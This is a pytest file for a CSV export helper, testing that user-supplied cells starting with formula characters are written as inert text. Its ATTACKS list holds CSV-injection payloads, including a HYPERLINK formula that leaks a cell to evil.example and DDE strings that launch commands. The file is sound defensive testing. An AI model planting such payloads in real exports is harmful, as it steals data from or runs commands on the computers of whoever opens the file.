"""CSV downloads open in a spreadsheet as text: no cell of user data runs as a formula (the OWASP rule)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from fitgate.spreadsheet import FORMULA_STARTS, inert_cell, write_csv_for_people

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"spam")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(cell: str, tmp_path: Path) -> None:
    path = tmp_path / "issues.csv"
    write_csv_for_people(path, ["text", "label"], [[cell, "=label"]])
    with path.open(newline="", encoding="utf-8") as f:
        header, row = list(csv.reader(f))
    assert header == ["text", "label"]
    assert row == [f"'{cell}", "'=label"]
    assert not any(value.startswith(FORMULA_STARTS) for value in row)


@pytest.mark.parametrize("cell", ["plain text", "a=b", "0.1234", "", "'quoted", "e-mail me", 42, None])
def test_other_cells_are_left_as_they_are(cell: object) -> None:
    assert inert_cell(cell) == ("" if cell is None else str(cell))
